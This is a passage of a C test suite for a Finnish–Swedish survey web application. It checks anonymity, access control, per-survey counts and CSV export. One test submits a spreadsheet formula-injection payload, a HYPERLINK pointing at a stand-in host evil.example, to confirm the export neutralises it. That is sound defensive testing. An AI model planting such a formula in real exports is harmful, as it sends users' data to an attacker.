    const char *const all[] = {"token", token, "page", "1", "action", "next", q1, yes, q2, "Ryhmä auttoi paljon", q3, "5",
                               "respondent_group", "resident", NULL};
    post(&c, path, path, all, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    free(token);
    assert_int_equal(responses_of(&b), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_drafts WHERE survey_id = CAST($1 AS INTEGER)", ids), 0);
    /* a second answer by the same person is refused, with a fresh form too */
    http_get(&c, path, NULL, &r);
    assert_true(body_has(&r, "Olet jo vastannut tähän kyselyyn"));
    tresp_free(&r);
    const char *const again[] = {"token", "fedcba9876543210fedcba9876543210", "page", "1", "action", "next", q1, yes, q3, "1", NULL};
    post(&c, "/fi/feedback", path, again, &r);
    assert_int_equal(r.status, 403);
    tresp_free(&r);
    assert_int_equal(responses_of(&b), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_answer_keys WHERE survey_id = CAST($1 AS INTEGER)", ids), 1);

    /* ANONYMITY: every table, every column. No row linked to the response
     * holds the user's id, e-mail, session id or the session's hash. */
    db *d = testsrv_db(&srv);
    arena a;
    arena_init(&a);
    db_result res;
    db_param up[] = {DB_TEXT(TESTER_ID)};
    assert_int_equal(db_query(d, &a, &res, "SELECT id_hash FROM sessions WHERE user_id = CAST($1 AS INTEGER)", 1, up), 0);
    assert_true(res.nrows >= 1);
    const char *secrets[16];
    int ns = 0;
    secrets[ns++] = TESTER_ID;
    secrets[ns++] = TESTER;
    secrets[ns++] = sid;
    for (int i = 0; i < res.nrows && ns < 16; i++) secrets[ns++] = arena_strdup(&a, db_cell(&res, i, 0));
    db_param rp[] = {DB_INT(b.id)};
    assert_int_equal(db_query(d, &a, &res, "SELECT id, submitted_at FROM responses WHERE survey_id = $1", 1, rp), 0);
    assert_int_equal(res.nrows, 1);
    int64_t response_id = db_cell_int(&res, 0, 0);
    assert_int_equal(db_cell_int(&res, 0, 1) % 86400, 0);   /* only the day is kept */
    db_result tables;
    if (db_kind_of(d) == DB_SQLITE)
        assert_int_equal(db_query(d, &a, &tables, "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name", 0, NULL), 0);
    else
        assert_int_equal(db_query(d, &a, &tables, "SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() "
                                                  "AND table_type = 'BASE TABLE' ORDER BY table_name", 0, NULL), 0);
    assert_true(tables.nrows > 20);
    int linked_tables = 0, cells_checked = 0;
    bool keys_table_seen = false;
    for (int t = 0; t < tables.nrows; t++) {
        const char *table = db_cell(&tables, t, 0);
        /* SELECT * of the whole table; column names from the dialect's catalog */
        db_result cols;
        db_param tp[] = {DB_TEXT(table)};
        if (db_kind_of(d) == DB_SQLITE)
            assert_int_equal(db_query(d, &a, &cols, "SELECT name FROM pragma_table_info($1) ORDER BY cid", 1, tp), 0);
        else
            assert_int_equal(db_query(d, &a, &cols, "SELECT column_name FROM information_schema.columns WHERE table_schema = current_schema() "
                                                    "AND table_name = $1 ORDER BY ordinal_position", 1, tp), 0);
        int link_col = -1;
        for (int k = 0; k < cols.nrows; k++)
            if (column_is_response_link(table, db_cell(&cols, k, 0))) link_col = k;
        if (strcmp(table, "survey_answer_keys") == 0 || strcmp(table, "survey_used_tokens") == 0 || strcmp(table, "survey_drafts") == 0) {
            keys_table_seen = keys_table_seen || strcmp(table, "survey_answer_keys") == 0;
            /* the one-answer keys lead nowhere: no response link, no time, no user */
            assert_int_equal(link_col, -1);
            for (int k = 0; k < cols.nrows; k++) {
                const char *cn = db_cell(&cols, k, 0);
                assert_null(strstr(cn, "response"));
                assert_null(strstr(cn, "user"));
                if (strcmp(table, "survey_answer_keys") == 0) assert_null(strstr(cn, "_at"));
            }
        }
        if (link_col < 0) continue;
        linked_tables++;
        db_result rows;
        assert_int_equal(db_query(d, &a, &rows, arena_printf(&a, "SELECT * FROM %s", table), 0, NULL), 0);
        for (int i = 0; i < rows.nrows; i++) {
            if (db_cell_int(&rows, i, link_col) != response_id) continue;
            for (int k = 0; k < rows.ncols; k++) {
                const char *v = db_cell(&rows, i, k);
                if (!v) continue;
                cells_checked++;
                for (int s = 0; s < ns; s++)
                    if (strstr(v, secrets[s])) fail_msg("%s.%s of the response holds \"%s\"", table, db_cell(&cols, k, 0), secrets[s]);
            }
        }
    }
    assert_true(keys_table_seen);
    assert_true(linked_tables >= 2);     /* responses and answers at least */
    assert_true(cells_checked >= 20);    /* the response row and its three answers */
    /* the key is a keyed hash, not the id itself */
    assert_int_equal(scalar("SELECT COUNT(*) FROM survey_answer_keys WHERE key_hash LIKE '%' || $1 || '%'", TESTER_ID), 0);
    arena_free_all(&a);
    db_close(d);
    free(sid);
    tclient_free(&c);
}

static void identified_answers_keep_the_account_and_preview_saves_nothing(void **state)
{
    (void)state;
    tclient staff;
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&staff, "Tunnisteellinen palaute", "registered", false, true, &b);
    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b.id);
    char q1[32], q3[32], no[32];
    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
    snprintf(no, sizeof no, "%lld", (long long)b.no);
    tresp r;
    /* identified needs signed-in respondents */
    const char *const bad[] = {"title_fi", "Tunnisteellinen palaute", "title_sv", "Identifierad respons", "audience", "everyone",
                               "anonymity", "identified", "kind", "survey", NULL};
    post(&staff, edit, edit, bad, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "value=\"Identifierad respons\""));
    tresp_free(&r);
    const char *const good[] = {"title_fi", "Tunnisteellinen palaute", "title_sv", "Identifierad respons", "audience", "registered",
                                "anonymity", "identified", "kind", "survey", "intro_fi", "Kerro **mielipiteesi**.",
                                "intro_sv", "Berätta vad du tycker.", NULL};
    post(&staff, edit, edit, good, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    /* the preview walks through without storing anything, also the last page */
    const char *preview = fmt("%s/preview", edit);
    http_get(&staff, preview, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Esikatselu"));
    tresp_free(&r);
    const char *const pv[] = {"token", "preview", "page", "0", "action", "next", q1, no, q3, "7", NULL};
    post(&staff, preview, preview, pv, &r);
    assert_int_equal(r.status, 400);   /* 7 is off the scale in the preview too */
    tresp_free(&r);
    const char *const pv2[] = {"token", "preview", "page", "0", "action", "next", q1, no, q3, "3", NULL};
    post(&staff, preview, preview, pv2, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Esikatselu päättyi"));
    tresp_free(&r);
    assert_int_equal(responses_of(&b), 0);
    publish(&staff, &b);
    tclient_free(&staff);

    tclient c;
    tclient_init(&c, &srv);
    login_as(&c, "fi", RESIDENT, PASSWORD);
    const char *path = fmt("/fi/surveys/%s", b.slug);
    http_get(&c, path, NULL, &r);
    assert_false(body_has(&r, "Vastauksesi ovat nimettömiä"));
    char *token = hidden_value(&r, "token");
    tresp_free(&r);
    const char *const ans[] = {"token", token, "page", "0", "action", "next", q1, no, q3, "4", NULL};
    post(&c, path, path, ans, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    free(token);
    tclient_free(&c);
    assert_int_equal(scalar("SELECT COUNT(*) FROM responses r JOIN users u ON u.id = r.user_id "
                            "WHERE r.survey_id = CAST($1 AS INTEGER) AND u.email = '" RESIDENT "'", fmt("%lld", (long long)b.id)), 1);
}

/* A resident's free-text answer that a spreadsheet would run as a formula
 * comes out of raw.csv as text with an apostrophe in front; the scale answer
 * stays a number. */
static void raw_answers_csv_never_holds_a_live_formula(void **state)
{
    (void)state;
    static const char EVIL[] = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")";
    tclient staff;
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&staff, "Kaavakoe", "registered", false, true, &b);
    const char *edit = fmt("/fi/staff/surveys/%lld", (long long)b.id);
    tresp r;
    const char *const identified[] = {"title_fi", "Kaavakoe", "title_sv", "Formeltest", "audience", "registered",
                                      "anonymity", "identified", "kind", "survey", NULL};
    post(&staff, edit, edit, identified, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    publish(&staff, &b);

    tclient c;
    tclient_init(&c, &srv);
    login_as(&c, "fi", RESIDENT, PASSWORD);
    const char *path = fmt("/fi/surveys/%s", b.slug);
    http_get(&c, path, NULL, &r);
    char *token = hidden_value(&r, "token");
    tresp_free(&r);
    char q1[32], q2[32], q3[32], yes[32];
    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
    snprintf(q2, sizeof q2, "q%lld", (long long)b.q2);
    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
    snprintf(yes, sizeof yes, "%lld", (long long)b.yes);
    const char *const ans[] = {"token", token, "page", "0", "action", "next", q1, yes, q2, EVIL, q3, "4", NULL};
    post(&c, path, path, ans, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    free(token);
    tclient_free(&c);

    http_get(&staff, fmt("%s/results/raw.csv", edit), NULL, &r);
    assert_int_equal(r.status, 200);
    assert_memory_equal(r.body.data, "\xEF\xBB\xBF", 3);
    const char *p = r.body.data + 3, *end = r.body.data + r.body.len;
    char **head, **row;
    int nh = csv_read_record(&p, end, &head);
    assert_int_equal(nh, 9);   /* 6 columns about the response, 3 questions */
    assert_string_equal(head[7], "2. Mikä palvelussa toimi hyvin?");
    assert_int_equal(csv_read_record(&p, end, &row), 9);
    assert_string_equal(row[6], "Kyllä");
    assert_string_equal(row[7], "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")");
    assert_string_equal(row[8], "4");
    assert_true(p == end);   /* one response */
    csv_fields_free(head, nh);
    csv_fields_free(row, 9);
    /* the raw text holds no cell that starts with the formula */
    assert_false(body_has(&r, ",\"=HYPERLINK"));
    assert_false(body_has(&r, ",=HYPERLINK"));
    tresp_free(&r);
    tclient_free(&staff);
}

static void demo_surveys_open_to_their_audiences(void **state)
{
    (void)state;
    tresp r;
    tclient c;
    tclient_init(&c, &srv);
    /* the family centre survey: 60 answers, every municipality not alike */
    assert_int_equal(scalar("SELECT COUNT(*) FROM responses r JOIN surveys s ON s.id = r.survey_id WHERE s.slug = $1",
                            "perhekeskusten-asiakaskysely-2026"), 60);
    assert_true(scalar("SELECT COUNT(*) FROM (SELECT r.municipality_id FROM responses r JOIN surveys s ON s.id = r.survey_id "
                       "WHERE s.slug = $1 GROUP BY r.municipality_id HAVING COUNT(*) < 5) x", "perhekeskusten-asiakaskysely-2026") >= 2);
    http_get(&c, "/sv/surveys/perhekeskusten-asiakaskysely-2026", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Kundenkät: familjecentralernas tjänster 2026"));
    assert_true(body_has(&r, "<table class=\"matrix\">"));
    assert_true(body_has(&r, "<th scope=\"row\""));
    assert_true(body_has(&r, "Sida 1 av 2"));
    tresp_free(&r);
    http_get(&c, "/fi/surveys", NULL, &r);
    assert_true(body_has(&r, "Asiakaskysely: perhekeskusten palvelut 2026"));
    assert_false(body_has(&r, "Henkilöstön hyvinvointikysely"));
    tresp_free(&r);
    tclient_free(&c);
    /* the youth group's survey: members only */
    tclient_init(&c, &srv);
    login_as(&c, "fi", "nuori@kohtaamo.example", PASSWORD);
    http_get(&c, "/fi/surveys/nuorten-kokemuksia-hoitomuodoista", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Oletko saanut hoitoa tai tukea"));
    tresp_free(&r);
    /* "no" to the first question skips the second page: the answer goes in at once */
    http_get(&c, "/fi/surveys/nuorten-kokemuksia-hoitomuodoista", NULL, &r);
    char *token = hidden_value(&r, "token");
    tresp_free(&r);
    const char *yq = fmt("q%lld", (long long)scalar("SELECT q.id FROM survey_questions q JOIN surveys s ON s.id = q.survey_id "
                                                    "WHERE s.slug = $1 AND q.kind = 'yesno'", "nuorten-kokemuksia-hoitomuodoista"));
    const char *const no[] = {"token", token, "page", "0", "action", "next", yq, "0", NULL};
    post(&c, "/fi/surveys/nuorten-kokemuksia-hoitomuodoista", "/fi/surveys/nuorten-kokemuksia-hoitomuodoista", no, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    free(token);
    assert_int_equal(scalar("SELECT COUNT(*) FROM responses r JOIN surveys s ON s.id = r.survey_id WHERE s.slug = $1",
                            "nuorten-kokemuksia-hoitomuodoista"), 10);
    http_get(&c, "/fi/surveys/henkiloston-hyvinvointikysely", NULL, &r);
    assert_int_equal(r.status, 403);
    tresp_free(&r);
    tclient_free(&c);
    tclient_init(&c, &srv);
    login_as(&c, "sv", "invanare@kohtaamo.example", PASSWORD);
    http_get(&c, "/sv/surveys/nuorten-kokemuksia-hoitomuodoista", NULL, &r);
    assert_int_equal(r.status, 403);
    tresp_free(&r);
    tclient_free(&c);
    tclient_init(&c, &srv);
    login_as(&c, "fi", STAFF, PASSWORD);
    http_get(&c, "/sv/surveys/henkiloston-hyvinvointikysely", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Personalens välbefinnandeenkät"));
    assert_true(body_has(&r, "Rangordna anskaffningarna till pausrummet"));
    tresp_free(&r);
    http_get(&c, "/fi/staff/surveys", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Henkilöstön hyvinvointikysely"));
    assert_true(body_has(&r, "<td>60</td>"));
    tresp_free(&r);
    tclient_free(&c);
}

/* A fresh GROUP BY over the answers of completed responses, per breakdown
 * dimension, in the shape of survey_counts (NULL stored as -1, option_id -2:
 * respondents of the question) and survey_respondents. */
#define FRESH_PART(dim, key, keycol)                                                                           \
    "SELECT a.survey_id, a.question_id, '" dim "' AS dim, " key " AS dim_key, COALESCE(a.option_id, -1) AS o, " \
    "COALESCE(a.row_option_id, -1) AS ro, COALESCE(a.value_int, -1) AS v, COALESCE(a.rank, -1) AS rk, COUNT(*) AS n " \
    "FROM answers a JOIN responses r ON r.id = a.response_id WHERE r.completed = 1 "                           \
    "GROUP BY a.survey_id, a.question_id, a.option_id, a.row_option_id, a.value_int, a.rank" keycol " "          \
    "UNION ALL SELECT a.survey_id, a.question_id, '" dim "', " key ", -2, -1, -1, -1, COUNT(DISTINCT a.response_id) " \
    "FROM answers a JOIN responses r ON r.id = a.response_id WHERE r.completed = 1 "                           \
    "GROUP BY a.survey_id, a.question_id" keycol " "
#define FRESH                                                                                                  \
    FRESH_PART("", "''", "") "UNION ALL " FRESH_PART("lang", "r.lang", ", r.lang") "UNION ALL "                \
    FRESH_PART("grp", "r.respondent_group", ", r.respondent_group") "UNION ALL "                               \
    FRESH_PART("m", "COALESCE(CAST(r.municipality_id AS TEXT), '')", ", r.municipality_id") "UNION ALL "       \
    FRESH_PART("sp", "COALESCE(CAST(r.service_point_id AS TEXT), '')", ", r.service_point_id")
#define STORED "SELECT survey_id, question_id, dim, dim_key, option_id, row_option_id, value_int, rank, n FROM survey_counts WHERE n > 0"
#define FRESH_R                                                                                                \
    "SELECT survey_id, '' AS dim, '' AS dim_key, COUNT(*) AS n FROM responses WHERE completed = 1 GROUP BY survey_id " \
    "UNION ALL SELECT survey_id, 'lang', lang, COUNT(*) FROM responses WHERE completed = 1 GROUP BY survey_id, lang " \
    "UNION ALL SELECT survey_id, 'grp', respondent_group, COUNT(*) FROM responses WHERE completed = 1 "         \
    "GROUP BY survey_id, respondent_group UNION ALL SELECT survey_id, 'm', COALESCE(CAST(municipality_id AS TEXT), ''), " \
    "COUNT(*) FROM responses WHERE completed = 1 GROUP BY survey_id, municipality_id "                        \
    "UNION ALL SELECT survey_id, 'sp', COALESCE(CAST(service_point_id AS TEXT), ''), COUNT(*) FROM responses " \
    "WHERE completed = 1 GROUP BY survey_id, service_point_id"
#define STORED_R "SELECT survey_id, dim, dim_key, n FROM survey_respondents WHERE n > 0"

/* Rows that differ between the stored counts and a fresh count, both ways,
 * over every survey; 0 when they agree. */
static int64_t counts_differ(void)
{
    return scalar("SELECT COUNT(*) FROM (SELECT * FROM (" FRESH ") f EXCEPT " STORED ") x", NULL) +
           scalar("SELECT COUNT(*) FROM (" STORED " EXCEPT SELECT * FROM (" FRESH ") f) x", NULL) +
           scalar("SELECT COUNT(*) FROM (SELECT * FROM (" FRESH_R ") f EXCEPT " STORED_R ") x", NULL) +
           scalar("SELECT COUNT(*) FROM (" STORED_R " EXCEPT SELECT * FROM (" FRESH_R ") f) x", NULL);
}

typedef struct answerer {
    char path[160];
    char *csrf, *token;
    const char *pairs[16];
    tclient c;
    long status;
} answerer;

static void *answer_once(void *arg)
{
    answerer *x = arg;
    const char *all[24];
    int n = 0;
    all[n++] = "csrf";
    all[n++] = x->csrf;
    all[n++] = "token";
    all[n++] = x->token;
    for (int i = 0; x->pairs[i]; i++) all[n++] = x->pairs[i];
    all[n] = NULL;
    tresp r;
    http_post_form(&x->c, x->path, all, &r);
    x->status = r.status;
    tresp_free(&r);
    return NULL;
}

/* Results read precomputed counts (sql/067_survey_counts.sql): after the
 * demo loaders, single answers, twenty different answers posted at once and
 * a deleted question they equal a fresh GROUP BY over the answers, and the
 * results page shows them. */
static void counts_stay_equal_to_a_fresh_count_of_the_answers(void **state)
{
    (void)state;
    assert_true(scalar("SELECT COUNT(*) FROM survey_counts", NULL) > 0);   /* the demo surveys */
    assert_int_equal(counts_differ(), 0);
    tclient staff;
    tclient_init(&staff, &srv);
    login_as(&staff, "fi", STAFF, PASSWORD);
    built b;
    build_survey(&staff, "Laskurit", "everyone", false, true, &b);
    publish(&staff, &b);
    char q1[32], q2[32], q3[32], yes[32], no[32], vals[5][4];
    snprintf(q1, sizeof q1, "q%lld", (long long)b.q1);
    snprintf(q2, sizeof q2, "q%lld", (long long)b.q2);
    snprintf(q3, sizeof q3, "q%lld", (long long)b.q3);
    snprintf(yes, sizeof yes, "%lld", (long long)b.yes);
    snprintf(no, sizeof no, "%lld", (long long)b.no);
    for (int v = 0; v < 5; v++) snprintf(vals[v], sizeof vals[v], "%d", v + 1);
    enum { N = 20 };
    answerer xs[N + 1];
    pthread_t th[N];
    for (int i = 0; i <= N; i++) {
        answerer *x = &xs[i];
        snprintf(x->path, sizeof x->path, "/%s/surveys/%s", i % 3 == 2 ? "sv" : "fi", b.slug);
        tclient_init(&x->c, &srv);
        tresp r;
        http_get(&x->c, x->path, NULL, &r);
        x->token = hidden_value(&r, "token");
        tresp_free(&r);
        x->csrf = fetch_csrf(&x->c, x->path);
        int k = 0;
        x->pairs[k++] = "page", x->pairs[k++] = "0", x->pairs[k++] = "action", x->pairs[k++] = "next";
        x->pairs[k++] = q1, x->pairs[k++] = i % 4 == 0 ? no : yes;
        if (i % 4 != 0 && i % 2 == 1) x->pairs[k++] = q2, x->pairs[k++] = "Hyvin meni";
        x->pairs[k++] = q3, x->pairs[k++] = vals[i % 5];
        x->pairs[k] = NULL;
    }
    /* one answer, then twenty at once */
    answer_once(&xs[N]);
    assert_int_equal(xs[N].status, 303);
    assert_int_equal(counts_differ(), 0);
    for (int i = 0; i < N; i++) assert_int_equal(pthread_create(&th[i], NULL, answer_once, &xs[i]), 0);
    for (int i = 0; i < N; i++) pthread_join(th[i], NULL);
    for (int i = 0; i <= N; i++) {
        assert_int_equal(xs[i].status, 303);
        free(xs[i].csrf);
        free(xs[i].token);
        tclient_free(&xs[i].c);
    }
    assert_int_equal(responses_of(&b), N + 1);
    assert_int_equal(counts_differ(), 0);
    const char *ids = fmt("%lld", (long long)b.id);
    assert_int_equal(scalar("SELECT n FROM survey_respondents WHERE survey_id = CAST($1 AS INTEGER) AND dim = ''", ids), N + 1);
    /* the results show the counted numbers: 21 respondents, 6 of them said no */
    tresp r;
    http_get(&staff, fmt("/fi/staff/surveys/%s/results?by=municipality", ids), NULL, &r);
    assert_int_equal(r.status, 200);
    tresp_free(&r);
    http_get(&staff, fmt("/fi/staff/surveys/%s/results.json?by=lang", ids), NULL, &r);
    assert_int_equal(r.status, 200);
    json_error_t je;
    json_t *m = json_loadb(r.body.data, r.body.len, 0, &je);
    assert_non_null(m);
    assert_int_equal(json_integer_value(json_object_get(m, "respondents")), N + 1);
    json_t *q1o = json_array_get(json_object_get(m, "questions"), 0);
    assert_int_equal(json_integer_value(json_object_get(q1o, "n")), N + 1);
    assert_int_equal(json_integer_value(json_object_get(json_array_get(json_object_get(q1o, "items"), 1), "count")), 6);
    json_decref(m);
    tresp_free(&r);
    tclient_free(&staff);
    /* deleting a question (the builder refuses once there are answers; the
     * schema cascades) takes its answers and its counts */
    db *d = testsrv_db(&srv);
    db_param p[] = {DB_INT(b.q2)};
    assert_int_equal(db_exec(d, "DELETE FROM survey_questions WHERE id = $1", 1, p), 0);
    db_close(d);
    assert_int_equal(counts_differ(), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(publishing_waits_for_every_swedish_text),
        cmocka_unit_test(conditions_must_point_back_and_options_match),
        cmocka_unit_test(answering_page_by_page_keeps_answers_and_drops_hidden_ones),
        cmocka_unit_test(twenty_parallel_posts_of_one_form_make_one_response),
        cmocka_unit_test(audiences_are_checked),
        cmocka_unit_test(one_anonymous_answer_per_person_and_nothing_leads_back),
        cmocka_unit_test(identified_answers_keep_the_account_and_preview_saves_nothing),
        cmocka_unit_test(raw_answers_csv_never_holds_a_live_formula),
        cmocka_unit_test(demo_surveys_open_to_their_audiences),
        cmocka_unit_test(counts_stay_equal_to_a_fresh_count_of_the_answers),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
